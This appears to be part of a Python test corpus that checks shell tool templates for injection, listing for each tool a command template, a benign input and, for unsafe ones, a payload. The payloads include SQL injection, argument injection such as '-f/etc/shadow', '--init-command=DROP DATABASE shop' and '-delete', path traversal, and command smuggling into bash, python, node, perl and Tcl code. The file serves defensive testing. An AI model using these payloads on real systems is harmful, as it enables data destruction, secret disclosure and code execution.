  payload={"image": SPLIT}, check=split_seen("podman"), idiom="set -- $(echo value) then \"$@\"", why="podman rmi receives two references")
T(M, "argocd_sync_app", "option", ["argocd app sync @{app} --timeout 120"], ["app"],
  desc="Sync an Argo CD application.", benign={"app": "web"}, expect="argocd-stub", prog="argocd",
  payload={"app": "--prune"}, check=has_arg("argocd", "--prune"), idiom="app name as --prune", why="argocd receives --prune: resources are deleted")
T(M, "vault_read_field", "safe", ["vault kv get -mount=secret -field=@{field} -- app/@{name}"], ["field", "name"],
  desc="Read one field of an application secret.", benign={"field": "password", "name": "web"}, expect="vault-stub", prog="vault",
  idiom="-field=value one word, path after --")
T(M, "rclone_fetch", "option", ["rclone copy @{src} ./downloads --progress=false"], ["src"],
  desc="Copy files from a configured remote path into downloads/.", benign={"src": "media:photos/2026"}, expect="rclone-stub", prog="rclone",
  payload={"src": "--config=/tmp/attacker.conf"}, check=has_arg("rclone", "--config=/tmp/attacker.conf"), idiom="remote path as --config",
  why="rclone receives --config and uses another credentials file")
T(M, "skopeo_inspect", "safe", ["skopeo inspect --raw docker://registry.local/@{image}"], ["image"],
  desc="Show the raw manifest of an image in the local registry.", benign={"image": "app:1.0"}, expect="skopeo-stub", prog="skopeo",
  idiom="docker:// URL prefix")

# =============================== data_tools ======================================
M = "data_tools"
DB = "sqlite3 shop.db \"CREATE TABLE customers(id INTEGER PRIMARY KEY, name TEXT, city TEXT); INSERT INTO customers VALUES(1,'ana','Oslo'),(2,'bob','Rome');\" && printf 'id,sku\\n1,A1\\n' > orders.csv"
T(M, "sqlite_customer_by_name", "write", ["sqlite3 -header shop.db \"SELECT id, name, city FROM customers WHERE name = '@{name}'\""], ["name"],
  desc="Find a customer by exact name.", benign={"name": "ana"}, expect="Oslo", setup=DB, prog="sqlite3",
  payload={"name": "x'; ATTACH DATABASE '{P}' AS p; CREATE TABLE p.t(a); --"}, check=pwn,
  idiom="SQL string literal built from the value", why="SQL injection ATTACHes and creates a database file at the given path")
T(M, "sqlite_customer_by_id", "safe", ["[[ @{id} =~ ^[0-9]+$ ]] || { echo 'id must be numeric'; exit 1; }; sqlite3 -header shop.db \"SELECT id, name, city FROM customers WHERE id = @{id}\""], ["id"],
  desc="Find a customer by numeric id.", benign={"id": "2"}, expect="Rome", setup=DB, prog="sqlite3", idiom="numeric regex guard before SQL")
T(M, "sqlite_import_csv", "exec", ["sqlite3 -csv shop.db \".import @{file} staging\" \"SELECT count(*) FROM staging\""], ["file"],
  desc="Import a CSV file into the staging table and count the rows.", benign={"file": "orders.csv"}, expect="1", setup=DB, prog="sqlite3",
  payload={"file": "\"|touch {C}\""}, idiom=".import FILE starting with | runs a command")
T(M, "sqlite_import_stdin", "exec", ["printf '.mode csv\\n.import %s staging\\nSELECT count(*) FROM staging;\\n' @{file} | sqlite3 shop.db"], ["file"],
  desc="Import a CSV file into staging (script on stdin).", benign={"file": "orders.csv"}, expect="1", setup=DB, prog="sqlite3",
  payload={"file": "orders.csv\n.shell touch {C}"}, idiom="newline in value adds a dot-command line")
T(M, "sqlite_backup_named", "write", ["mkdir -p backups && sqlite3 shop.db \".backup backups/@{name}.db\" && ls backups"], ["name"],
  desc="Back up the shop database to backups/<name>.db.", benign={"name": "nightly"}, expect="nightly.db", setup=DB, prog="sqlite3",
  payload={"name": "../../../../blindE_pwn_{ID}"}, check=pwn, idiom=".backup target with ../", why="backup written outside backups/")
T(M, "sqlite_city_count", "safe", ["printf '%s' @{city} > .city_query && sqlite3 shop.db \"SELECT count(*) FROM customers WHERE city = CAST(readfile('.city_query') AS TEXT)\""], ["city"],
  desc="Count customers in a city.", benign={"city": "Rome"}, expect="1", setup=DB, prog="sqlite3",
  idiom="value passed as data via readfile()")
T(M, "psql_row_count", "option", ["psql -h db.internal -U reporter -At @{dbname} -c 'SELECT count(*) FROM orders'"], ["dbname"],
  desc="Count the orders in a reporting database.", benign={"dbname": "sales"}, expect="psql-stub", prog="psql",
  payload={"dbname": "--file=/tmp/attacker.sql"}, check=has_arg("psql", "--file=/tmp/attacker.sql"), idiom="database name as --file",
  why="psql receives --file and runs the SQL file")
T(M, "psql_var_query", "safe", ["psql -h db.internal -U reporter -At -d sales -v sku=@{sku} -c \"SELECT count(*) FROM orders WHERE sku = :'sku'\""], ["sku"],
  desc="Count orders of one SKU (psql variable interpolation).", benign={"sku": "A1"}, expect="psql-stub", prog="psql", idiom="psql -v var and :'var'")
T(M, "mysql_list_tables", "option", ["mysql -h db.internal -u reader -e 'SHOW TABLES' @{database}"], ["database"],
  desc="List the tables of a MySQL database.", benign={"database": "shop"}, expect="mysql-stub", prog="mysql",
  payload={"database": "--init-command=DROP DATABASE shop"}, check=has_arg("mysql", "--init-command=DROP DATABASE shop"),
  idiom="database name as --init-command", why="mysql receives --init-command and runs that SQL on connect")
T(M, "mysqldump_db", "write", ["mkdir -p dumps && mysqldump --single-transaction @{database} > dumps/@{database}.sql && ls dumps"], ["database"],
  desc="Dump a MySQL database into dumps/<db>.sql.", benign={"database": "shop"}, expect="shop.sql", prog="mysqldump",
  payload={"database": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="redirect dumps/<value>.sql", why="the redirect creates a file outside dumps/")
T(M, "redis_get_key", "safe", ["redis-cli -h 127.0.0.1 -n 0 --raw GET @{key}"], ["key"],
  desc="Read a key from the local Redis cache.", benign={"key": "session:42"}, expect="redis-cli-stub", prog="redis-cli", idiom="key after the command word", opt_stop="GET")
T(M, "mongo_find_user", "broken", ["mongosh --quiet app --eval 'db.users.find({ email: \"@{email}\" }, { _id: 0, $natural: 1 }).toArray()'"], ["email"],
  desc="Find a user document by e-mail.", benign={"email": "a@b.c"}, expect="mongosh-stub", prog="mongosh",
  idiom="$natural in the JS text", why="the client substitutes $natural; the call always fails")

# =============================== lang_tools ======================================
M = "lang_tools"
LANG = "echo '{\"name\":\"demo\",\"version\":\"1.2.0\",\"port\":8080}' > package.json && cp package.json config.json && printf 'INFO start\\nWARN disk low\\nERROR crash\\n' > app.log && printf 'foo=1\\nbar=2\\n' > config.ini"
T(M, "py_config_value", "exec", ["python3 -c \"import json; print(json.load(open('config.json'))['@{key}'])\""], ["key"],
  desc="Read one top-level key of config.json.", benign={"key": "port"}, expect="8080", setup=LANG, prog="python3",
  payload={"key": "'+__import__('os').popen('touch {C}').read()+'"}, idiom="value inside python -c source")
T(M, "py_config_value_argv", "safe", ["python3 -c 'import json, sys; print(json.load(open(\"config.json\")).get(sys.argv[1]))' @{key}"], ["key"],
  desc="Read one top-level key of config.json (key passed as argv).", benign={"key": "port"}, expect="8080", setup=LANG, prog="python3",
  idiom="python -c code with value in sys.argv")
T(M, "node_pkg_field", "exec", ["node -e 'const p = require(\"./package.json\"); console.log(p[process.argv[1]])' @{field}"], ["field"],
  desc="Print one field of package.json.", benign={"field": "version"}, expect="1.2.0", setup=LANG, prog="node",
  payload={"field": "--eval=require('fs').writeFileSync('{C}', '')"}, idiom="node parses options after -e code (--eval)")
T(M, "node_pkg_field_safe", "safe", ["node -e 'const p = require(\"./package.json\"); console.log(p[process.argv[1]])' -- @{field}"], ["field"],
  desc="Print one field of package.json (argv after --).", benign={"field": "version"}, expect="1.2.0", setup=LANG, prog="node",
  idiom="node -e code -- value")
T(M, "node_pkg_field_inline", "exec", ["node -p \"require('./package.json')['@{field}']\""], ["field"],
  desc="Print one field of package.json (node -p).", benign={"field": "name"}, expect="demo", setup=LANG, prog="node",
  payload={"field": "'+require('child_process').execSync('touch {C}')+'"}, idiom="value inside node -p expression")
T(M, "perl_log_filter", "exec", ["perl -ne 'print if /@{pattern}/' app.log"], ["pattern"],
  desc="Print log lines matching a Perl regular expression.", benign={"pattern": "WARN|ERROR"}, expect="crash", setup=LANG, prog="perl",
  payload={"pattern": "x/; system(\"touch {C}\"); /x"}, idiom="value inside single-quoted perl program")
T(M, "perl_log_filter_env", "broken", ["PAT=@{pattern} perl -ne 'print if /$ENV{PAT}/' app.log"], ["pattern"],
  desc="Print log lines matching a pattern (pattern via the environment).", benign={"pattern": "ERROR"}, expect="crash", setup=LANG, prog="perl",
  idiom="perl $ENV{PAT} in the template", why="the client substitutes $ENV as a client variable; the call fails")
T(M, "perl_ini_set", "exec", ["perl -pi -e 's/^@{key}=.*/@{key}=@{value}/' config.ini && cat config.ini"], ["key", "value"],
  desc="Set key=value in config.ini.", benign={"key": "foo", "value": "9"}, expect="foo=9", setup=LANG, prog="perl",
  payload={"key": "foo", "value": "x/; system(\"touch {C}\"); s/x/"}, idiom="value inside perl s/// replacement")
T(M, "tcl_shout", "exec", ["echo 'puts [string toupper \"@{text}\"]' | tclsh"], ["text"],
  desc="Upper-case a text (Tcl).", benign={"text": "hello"}, expect="HELLO", prog="tclsh",
  payload={"text": "[exec touch {C}]"}, idiom="Tcl command substitution in a double-quoted Tcl string")
T(M, "bc_calculate", "safe", ["echo @{expression} | bc -l"], ["expression"],
  desc="Evaluate an arithmetic expression with bc.", benign={"expression": "2^10"}, expect="1024", prog="bc",
  idiom="value piped into bc (no shell evaluation)")
T(M, "expr_add", "safe", ["expr @{a} + @{b}"], ["a", "b"],
  desc="Add two integers with expr.", benign={"a": "40", "b": "2"}, expect="42", prog="expr", idiom="expr operands")
T(M, "make_target", "exec", ["make -s -C proj @{target}"], ["target"],
  desc="Run a target of the project Makefile.", benign={"target": "build"}, expect="built",
  setup="mkdir proj && printf 'CC = cc\\nbuild:\\n\\t@echo built with $(CC)\\n\\t@$(CC) --version >/dev/null\\n' > proj/Makefile", prog="make",
  payload={"target": "CC=touch {C}; true"}, idiom="make target as variable assignment overriding a recipe command")
T(M, "make_target_allowlist", "safe", ["case @{target} in build|test|lint) make -s -C proj @{target} ;; *) echo \"unknown target\" ;; esac"], ["target"],
  desc="Run build, test or lint from the project Makefile.", benign={"target": "build"}, expect="built",
  setup="mkdir proj && printf 'CC = cc\\nbuild:\\n\\t@echo built with $(CC)\\n' > proj/Makefile", prog="make",
  idiom="case allow-list")
T(M, "vim_replace", "exec", ["ex -s -c '%s/@{find}/@{replace}/g' -c 'wq' notes.txt && cat notes.txt"], ["find", "replace"],
  desc="Replace text in notes.txt with ex.", benign={"find": "foo", "replace": "baz"}, expect="baz",
  setup="printf 'foo\\nbar\\n' > notes.txt", prog="ex", payload={"find": "foo", "replace": "y/|!touch {C}|s/q/q"},
  idiom="ex command line with | and !")
T(M, "ed_delete_lines", "exec", ["printf '%s\\n' \"g/@{pattern}/d\" w q | ed -s notes.txt && cat notes.txt"], ["pattern"],
  desc="Delete the lines matching a pattern from notes.txt.", benign={"pattern": "foo"}, expect="bar",
  setup="printf 'foo\\nbar\\n' > notes.txt", prog="ed", payload={"pattern": "x/d\n!touch {C}\n#"}, idiom="newline adds an ed ! command")
T(M, "dash_greet", "exec", ["dash -c \"echo Hello, @{name}\""], ["name"],
  desc="Greet someone (POSIX shell).", benign={"name": "Ada"}, expect="Hello, Ada", prog="dash",
  payload={"name": "x; touch {C}"}, idiom="value inside dash -c string")
T(M, "count_pattern_bash_c", "broken", ["bash -c 'grep -c -- \"$1\" app.log' _ @{pattern}"], ["pattern"],
  desc="Count log lines containing a pattern.", benign={"pattern": "ERROR"}, expect="1", setup=LANG, prog="bash",
  idiom="positional $1 in bash -c", why="the client substitutes $1; the call always fails")
T(M, "awk_line_count_cmd", "exec", ["awk -v f=@{file} 'BEGIN { cmd = \"wc -l < \" f; cmd | getline n; print n }'"], ["file"],
  desc="Count the lines of a file (awk helper).", benign={"file": "app.log"}, expect="3", setup=LANG, prog="awk",
  payload={"file": "x; touch {C}"}, idiom="awk builds a command string and pipes it to getline")
T(M, "awk_line_count_getline", "safe", ["awk -v f=@{file} 'BEGIN { while ((getline line < f) > 0) n++; print n + 0 }'"], ["file"],
  desc="Count the lines of a file (awk getline from file).", benign={"file": "app.log"}, expect="3", setup=LANG, prog="awk",
  idiom="awk getline < file (no command)")
T(M, "py_heredoc_size", "safe", ["python3 - @{path} <<'EOF'\nimport os, sys\nprint(os.path.getsize(sys.argv[1]))\nEOF"], ["path"],
  desc="Print the size in bytes of a file.", benign={"path": "app.log"}, expect="37", setup=LANG, prog="python3",
  idiom="quoted heredoc program, value as argv")
T(M, "py_heredoc_size_inline", "broken", ["python3 <<'EOF'\nimport os\nprint(os.path.getsize('@{path}'))\nEOF"], ["path"],
  desc="Print the size in bytes of a file (path inline).", benign={"path": "app.log"}, expect="35", setup=LANG, prog="python3",
  idiom="placeholder inside quoted heredoc", why="the runtime emits '\"$VAR\"' but a quoted heredoc never expands it: python looks for a file literally named $__UTCP_ARG_...")
T(M, "py_heredoc_len", "exec", ["python3 <<EOF\nprint(len('@{text}'))\nEOF"], ["text"],
  desc="Print the length of a text.", benign={"text": "hello"}, expect="5", prog="python3",
  payload={"text": "\"+str(__import__('os').system('touch {C}'))+\""}, idiom="unquoted heredoc expands the value into python source")

# =============================== sys_tools =======================================
M = "sys_tools"
SYS = "mkdir -p data logs cache uploads conf.d shortcuts && echo keep > data/keep.txt && echo 'old' > logs/app.log && echo TOPSECRET > {T}/secret.txt && echo keep > {T}/keep.txt && echo 'port=80' > template.conf"
T(M, "find_old_logs", "option", ["find @{dir} -name '*.log' -mtime +7 -print"], ["dir"],
  desc="List log files older than a week under a directory.", benign={"dir": "logs"}, expect="", setup=SYS, prog="find",
  payload={"dir": "-delete"}, check=file_gone("{W}/data/keep.txt"), idiom="start directory as find expression (-delete)",
  why="find parses -delete as the first expression and deletes everything under .")
T(M, "find_by_name", "safe", ["find ./data -type f -name @{pattern} -print"], ["pattern"],
  desc="Find files under data/ whose name matches a glob.", benign={"pattern": "*.txt"}, expect="keep.txt", setup=SYS, prog="find",
  idiom="fixed start dir, -name value")
T(M, "find_files_containing", "exec", ["find ./data -type f -exec sh -c \"grep -l @{term} {}\" \\;"], ["term"],
  desc="List files under data/ that contain a term.", benign={"term": "keep"}, expect="keep.txt", setup=SYS, prog="find",
  payload={"term": "x /dev/null; touch {C};"}, idiom="value inside find -exec sh -c string")
T(M, "cache_evict", "split", ["printf '%s\\n' @{key} | xargs -I{} rm -f -- cache/{}", ("ls cache", True)], ["key"],
  desc="Evict one entry from the file cache.", benign={"key": "a"}, expect="blindE_splitA",
  setup=SYS + " && touch cache/a cache/blindE_splitA cache/blindE_splitB", prog="xargs",
  payload={"key": "blindE_splitA\nblindE_splitB"}, check=lambda c, o, e: not c.exists("{W}/cache/blindE_splitA") and not c.exists("{W}/cache/blindE_splitB"),
  idiom="xargs -I splits at newlines", why="one key value removes two cache entries")
T(M, "service_status", "safe", ["systemctl status --no-pager --lines=20 -- @{unit}"], ["unit"],
  desc="Show the status of a systemd unit.", benign={"unit": "nginx.service"}, expect="systemctl-stub", prog="systemctl", idiom="unit after --")
T(M, "deploy_as_service_user", "exec", ["sudo -n -u deploy bash -c \"cd {W} && git checkout @{branch}\""], ["branch"],
  desc="Check out a branch as the deploy user.", benign={"branch": "main"}, expect="", prog="sudo",
  payload={"branch": "main; touch {C}"}, idiom="value inside sudo bash -c string")
T(M, "run_with_mode", "exec", ["env @{assignment} printenv APP_MODE"], ["assignment"],
  desc="Run with one extra environment assignment (e.g. APP_MODE=prod) and show APP_MODE.", benign={"assignment": "APP_MODE=prod"}, expect="prod", prog="env",
  payload={"assignment": "-Stouch {C}"}, idiom="env -S splits and runs a command")
T(M, "iso_timestamp", "safe", ["date -u -d @{when} +%Y-%m-%dT%H:%M:%SZ"], ["when"],
  desc="Convert a date expression to an ISO-8601 UTC timestamp.", benign={"when": "2026-01-02 03:04:05"}, expect="2026-01-02T03:04:05Z", prog="date",
  idiom="value of -d")
T(M, "format_now", "option", ["date -u @{format}"], ["format"],
  desc="Print the current UTC time in a +FORMAT (e.g. +%F).", benign={"format": "+%F"}, expect="20", setup=SYS, prog="date",
  payload={"format": "-f{T}/secret.txt"}, check=out_has("TOPSECRET"), idiom="format operand as -f (read dates from file)",
  why="date -f reads the named file and echoes its content in the error")
T(M, "file_owner_report", "split", ["echo \"owner: $(stat -c %U \"@{path}\")\""], ["path"],
  desc="Report the owner of a file.", benign={"path": "template.conf"}, expect="owner: root", setup=SYS + " && touch blindE_splitA blindE_splitB", prog="stat",
  payload={"path": SPLIT}, check=out_has("root\nroot"), idiom="nested quotes inside $( ) inside double quotes (tracker misread)",
  why="stat receives two operands")
T(M, "disk_usage", "safe", ["du -sh -- @{path}"], ["path"],
  desc="Disk usage of a path.", benign={"path": "data"}, expect="data", setup=SYS, prog="du", idiom="operand after --")
T(M, "link_shortcut", "write", ["ln -sfn \"$(pwd)/data\" shortcuts/@{name} && ls shortcuts"], ["name"],
  desc="Create a shortcut symlink to data/ under shortcuts/.", benign={"name": "d"}, expect="d", setup=SYS, prog="ln",
  payload={"name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="link name with ../", why="symlink created outside shortcuts/")
T(M, "install_conf_fragment", "write", ["install -D -m 0644 template.conf conf.d/@{name}.conf && ls conf.d"], ["name"],
  desc="Install the template as conf.d/<name>.conf.", benign={"name": "web"}, expect="web.conf", setup=SYS, prog="install",
  payload={"name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="install -D destination with ../", why="written outside conf.d/")
T(M, "read_data_file", "safe", ["[[ $(realpath -m -- @{path}) == $(pwd -P)/data/* ]] || { echo 'outside data/'; exit 1; }; cat -- @{path}"], ["path"],
  desc="Print a file that must live under data/.", benign={"path": "data/keep.txt"}, expect="keep", setup=SYS, prog="realpath",
  idiom="realpath containment guard")
T(M, "read_data_file_pwd", "broken", ["case \"$(realpath -m -- @{path})\" in \"$PWD\"/data/*) cat -- @{path} ;; *) echo 'outside data/' ;; esac"], ["path"],
  desc="Print a file that must live under data/ (PWD guard).", benign={"path": "data/keep.txt"}, expect="keep", setup=SYS, prog="realpath",
  idiom="$PWD in the guard", why="the client substitutes $PWD; every call fails")
T(M, "shred_upload", "write", ["shred -u -n 1 uploads/@{name} && echo shredded"], ["name"],
  desc="Securely delete an uploaded file.", benign={"name": "x.bin"}, expect="shredded", setup=SYS + " && echo 1 > uploads/x.bin", prog="shred",
  payload={"name": "../../keep.txt"}, check=file_gone("{T}/keep.txt"), idiom="shred path with ../", why="a file outside uploads/ is destroyed")
T(M, "truncate_log", "write", ["truncate -s 0 logs/@{name}.log && echo truncated"], ["name"],
  desc="Empty a log file under logs/.", benign={"name": "app"}, expect="truncated", setup=SYS, prog="truncate",
  payload={"name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="truncate path with ../", why="creates/empties a file outside logs/")
T(M, "log_message", "option", ["logger -t mcp-tools @{message}"], ["message"],
  desc="Write a message to the system log.", benign={"message": "deploy finished"}, expect="logger-stub", prog="logger",
  payload={"message": "-f/etc/shadow"}, check=has_arg("logger", "-f/etc/shadow"), idiom="message as -f (log a file's content)",
  why="logger receives -f: the content of a file is sent to syslog")
T(M, "locked_deploy", "exec", ["flock -w 5 deploy.lock -c \"echo deploying @{version}\""], ["version"],
  desc="Run the deploy announcement under a lock.", benign={"version": "1.4.2"}, expect="deploying 1.4.2", prog="flock",
  payload={"version": "1; touch {C}"}, idiom="flock -c string runs in sh")
T(M, "top_processes", "exec", ["script -qc \"ps aux --sort=-%cpu | head -n @{count}\" /dev/null"], ["count"],
  desc="Show the top N processes by CPU (tty-formatted).", benign={"count": "3"}, expect="USER", prog="script",
  payload={"count": "3; touch {C}"}, idiom="script -c string runs in a shell")
T(M, "checksum_file", "safe", ["sha256sum -- @{file} | cut -c1-64"], ["file"],
  desc="SHA-256 of a file.", benign={"file": "template.conf"}, expect="", setup=SYS, prog="sha256sum", idiom="operand after --")
T(M, "human_bytes", "safe", ["numfmt --to=iec-i --suffix=B -- @{bytes}"], ["bytes"],
  desc="Format a byte count for humans.", benign={"bytes": "1048576"}, expect="1.0MiB", prog="numfmt", idiom="numfmt operand after --")

# =============================== shell_tools =====================================
M = "shell_tools"
SH = "mkdir -p data reports && echo keep > data/keep.txt && echo note > data/note.md"
T(M, "hours_to_minutes", "exec", ["echo $(( @{hours} * 60 ))"], ["hours"],
  desc="Convert hours to minutes.", benign={"hours": "3"}, expect="180", prog="bash", payload={"hours": "a[$(touch {C})]"},
  idiom="arithmetic expansion $(( ))")
T(M, "sum_let", "exec", ["let \"total = @{a} + @{b}\"; echo \"sum: $((total))\""], ["a", "b"],
  desc="Add two integers.", benign={"a": "2", "b": "5"}, expect="sum: 7", prog="bash", payload={"a": "a[$(touch {C})]", "b": "1"},
  idiom="let with a double-quoted expression")
T(M, "size_class", "exec", ["[[ @{n} -gt 100 ]] && echo large || echo small"], ["n"],
  desc="Classify a number as large (>100) or small.", benign={"n": "150"}, expect="large", prog="bash", payload={"n": "a[$(touch {C})]"},
  idiom="[[ -gt ]] evaluates operands arithmetically")
T(M, "size_class_test", "safe", ["test @{n} -gt 100 2>/dev/null && echo large || echo small"], ["n"],
  desc="Classify a number as large (>100) or small (POSIX test).", benign={"n": "150"}, expect="large", prog="bash",
  idiom="test -gt (no arithmetic evaluation)")
T(M, "double_checked_steps", "exec", ["[[ @{n} =~ ^[0-9]+$ ]] || exit 1", "echo $(( @{n} * 2 ))"], ["n"],
  desc="Double a number (validated first).", benign={"n": "21"}, expect="42", prog="bash", payload={"n": "a[$(touch {C})]"},
  idiom="guard in its own step does not stop the next step (each step is a subshell)")
T(M, "define_setting", "exec", ["declare @{name}=@{value}; declare -p @{name}"], ["name", "value"],
  desc="Define a shell setting and show its declaration.", benign={"name": "retries", "value": "3"}, expect="retries", prog="bash",
  payload={"name": "a[$(touch {C})]", "value": "1"}, idiom="declare with a value-chosen name (subscript evaluated)")
T(M, "store_formatted", "exec", ["printf -v @{var} '%05d' @{number} && echo stored"], ["var", "number"],
  desc="Zero-pad a number into a named variable.", benign={"var": "padded", "number": "42"}, expect="stored", prog="bash",
  payload={"var": "a[$(touch {C})]", "number": "1"}, idiom="printf -v with a value-chosen variable name")
T(M, "show_setting", "exec", ["name=@{setting}; echo \"${!name}\""], ["setting"],
  desc="Show the value of a shell setting by name.", benign={"setting": "BASH_VERSION"}, expect=".", prog="bash",
  payload={"setting": "a[$(touch {C})]"}, idiom="indirect expansion ${!name}")
T(M, "setting_defined", "exec", ["[[ -v @{name} ]] && echo defined || echo undefined"], ["name"],
  desc="Tell whether a shell variable is defined.", benign={"name": "BASH_VERSION"}, expect="defined", prog="bash",
  payload={"name": "a[$(touch {C})]"}, idiom="[[ -v name ]]")
T(M, "substring", "exec", ["s=@{text}; echo \"${s:@{offset}:3}\""], ["text", "offset"],
  desc="Three characters of a text from an offset.", benign={"text": "abcdefgh", "offset": "2"}, expect="cde", prog="bash",
  payload={"text": "abc", "offset": "a[$(touch {C})]"}, idiom="substring offset is arithmetic")
T(M, "complete_word", "exec", ["compgen -W @{words} -- @{prefix}"], ["words", "prefix"],
  desc="Complete a prefix against a space-separated word list.", benign={"words": "start stop status", "prefix": "st"}, expect="status", prog="bash",
  payload={"words": "$(touch {C})", "prefix": "s"}, idiom="compgen -W expands its word list")
T(M, "job_with_cleanup", "exec", ["trap \"rm -rf /tmp/job-@{job}\" EXIT; mkdir -p /tmp/job-@{job} && echo started"], ["job"],
  desc="Start a job with a scratch folder removed on exit.", benign={"job": "42"}, expect="started", prog="bash",
  payload={"job": "x; touch {C}"}, idiom="trap string re-evaluated at exit")
T(M, "write_env_source", "exec", ["printf 'export APP_ENV=%s\\n' @{env} > .appenv && . ./.appenv && printenv APP_ENV"], ["env"],
  desc="Persist APP_ENV to .appenv and load it.", benign={"env": "staging"}, expect="staging", prog="bash",
  payload={"env": "x; touch {C}"}, idiom="file written with %s then sourced")
T(M, "write_env_source_q", "safe", ["printf 'export APP_ENV=%q\\n' @{env} > .appenv && . ./.appenv && printenv APP_ENV"], ["env"],
  desc="Persist APP_ENV to .appenv (shell-quoted) and load it.", benign={"env": "staging"}, expect="staging", prog="bash",
  idiom="file written with %q then sourced")
T(M, "heredoc_env_source", "broken", ["cat > app.env <<EOF\nNAME=@{name}\nEOF\nset -a; . ./app.env; set +a; printenv NAME"], ["name"],
  desc="Write the app name into app.env and load it.", benign={"name": "shop"}, expect="shop", prog="bash",
  idiom="heredoc followed by more commands in one step",
  why="inside the runtime's $( ) bash 5.2 re-reads the text after the heredoc wrongly (';' lost): printenv never runs, output is empty for every input")
T(M, "action_dispatch", "safe", ["case @{action} in start|stop|status) systemctl @{action} app.service ;; *) echo 'unknown action'; exit 1 ;; esac"], ["action"],
  desc="Start, stop or query the app service.", benign={"action": "status"}, expect="systemctl-stub", prog="systemctl", idiom="case allow-list")
T(M, "search_words", "split", ["read -r -a words <<< @{query}; rg --line-number \"${words[@]}\" src"], ["query"],
  desc="Search the source tree for a phrase.", benign={"query": "TODO"}, expect="rg-stub", prog="rg",
  payload={"query": SPLIT}, check=split_seen("rg"), idiom="read -a then \"${arr[@]}\"", why="rg receives the second word as a path")
T(M, "list_path_details", "split", ["set -- @{path}; ls -ld -- $@"], ["path"],
  desc="Show details of a path.", benign={"path": "data"}, expect="data", setup=SH + " && mkdir blindE_splitA blindE_splitB", prog="ls",
  payload={"path": SPLIT}, check=lambda c, o, e: "blindE_splitA" in (o or "") and "blindE_splitB" in (o or "") and "blindE_splitA blindE_splitB" not in (o or ""),
  idiom="unquoted $@ re-splits", why="ls lists two separate directories")
T(M, "parent_dir_note", "split", ["echo \"parent: `dirname @{path}`\""], ["path"],
  desc="Print the parent directory of a path.", benign={"path": "data/keep.txt"}, expect="parent: data", prog="dirname",
  payload={"path": "a/x b/y"}, check=out_has("a\nb"), idiom="backticks inside double quotes leave the value unquoted", why="dirname gets two operands")
T(M, "echo_quoted_eval", "split", ["eval \"printf '%s\\n' $(printf '%q' @{message})\""], ["message"],
  desc="Print a message (shell-escaped).", benign={"message": "hello"}, expect="hello", prog="printf",
  payload={"message": SPLIT}, check=out_has("blindE_splitAblindE_splitB"), idiom="$(printf %q value) inside double quotes: value split before %q",
  why="printf %q receives two words and glues them")
T(M, "resolve_names", "split", ["mapfile -t names < <(printf '%s\\n' @{name}); dig +short \"${names[@]}\""], ["name"],
  desc="Resolve one DNS name.", benign={"name": "example.internal"}, expect="dig-stub", prog="dig",
  payload={"name": "example.internal\n@10.0.0.66"}, check=has_arg("dig", "@10.0.0.66"), idiom="mapfile splits at newlines",
  why="dig receives a second argument @server: the query goes to another resolver")
T(M, "list_with_find_comment", "broken", ["# don't descend into subfolders\nfind data -maxdepth 1 -name @{pattern}"], ["pattern"],
  desc="List files in data/ matching a glob.", benign={"pattern": "*.txt"}, expect="keep.txt", setup=SH, prog="find",
  idiom="apostrophe in a comment flips the runtime quote tracker", why="the placeholder is emitted as '\"$VAR\"' in plain context: find gets the literal text")
T(M, "owner_report_ansi", "broken", ["printf $'Owner\\'s report: %s\\n' @{owner}"], ["owner"],
  desc="Print the owner's report line.", benign={"owner": "ada"}, expect="report: ada", prog="printf",
  idiom="$'...\\'...' ANSI-C quoting misread by the tracker", why="the value is never inserted (literal $__UTCP_ARG text)")
T(M, "list_dir_commented", "broken", ["ls -1 @{dir} # list entries"], ["dir"],
  desc="List the entries of a directory.", benign={"dir": "data"}, expect="keep.txt", setup=SH, prog="ls",
  idiom="trailing comment swallows the runtime's closing parenthesis", why="$( ... # comment 2>&1) never closes: syntax error on every call")
T(M, "cd_then_list", "broken", ["cd @{dir}", ("ls -1", True)], ["dir"],
  desc="Change into a directory and list it.", benign={"dir": "data"}, expect="keep.txt", setup=SH, prog="bash",
  idiom="cd in one step, ls in the next", why="each step runs in its own $( ) subshell: ls lists the original directory",
  check=lambda c, o, e: e is None and "keep.txt" not in (o or ""))
T(M, "tz_then_date", "broken", ["export TZ=@{tz}", ("date +%Z", True)], ["tz"],
  desc="Show the current time-zone abbreviation for a zone.", benign={"tz": "Asia/Tokyo"}, expect="JST", prog="date",
  idiom="export in one step", why="the export dies with the step's subshell: always UTC")
T(M, "count_then_report", "broken", ["grep -c -- @{term} data/keep.txt", ("echo \"matches: $CMD_0_OUTPUT\"", True)], ["term"],
  desc="Count matching lines and report the count.", benign={"term": "keep"}, expect="matches: 1", setup=SH, prog="grep",
  idiom="$CMD_0_OUTPUT", why="the client substitutes $CMD_0_OUTPUT as a client variable before the script exists")
T(M, "git_show_ref", "option", ["ref=@{rev}; git -C repo log --oneline -1 \"$ref\" --"], ["rev"],
  desc="Show the commit a revision points to.", benign={"rev": "v1.0"}, expect="initial import", setup=GIT, prog="git",
  payload={"rev": "--output={P}"}, check=pwn, why="git log takes the revision as --output=<file> and writes there",
  idiom="$ref survives client substitution (JSON $ref rule); revision before --")
T(M, "wc_typo_placeholder", "broken", ["wc -l < @{file_name}"], {"filename": "string"},
  desc="Count the lines of a file.", benign={"filename": "data/keep.txt"}, expect="1", setup=SH, prog="wc",
  idiom="placeholder name differs from the input name", why="the runtime inserts MISSING_ARG_file_name for every call")
T(M, "list_nul_safe", "safe", ["printf '%s\\0' @{path} | xargs -0 ls -ld --"], ["path"],
  desc="Show details of a path (NUL-delimited xargs).", benign={"path": "data"}, expect="data", setup=SH, prog="xargs",
  idiom="xargs -0 with printf %s\\0")
T(M, "report_to_file", "write", ["exec 3> reports/@{name}.txt; echo 'weekly report' >&3; exec 3>&-; ls reports"], ["name"],
  desc="Write the weekly report to reports/<name>.txt.", benign={"name": "w48"}, expect="w48.txt", setup=SH, prog="bash",
  payload={"name": "../../../../../../tmp/blindE_pwn_{ID}"}, check=pwn, idiom="exec 3> redirect target", why="written outside reports/")

# =============================== net_tools =======================================
M = "net_tools"
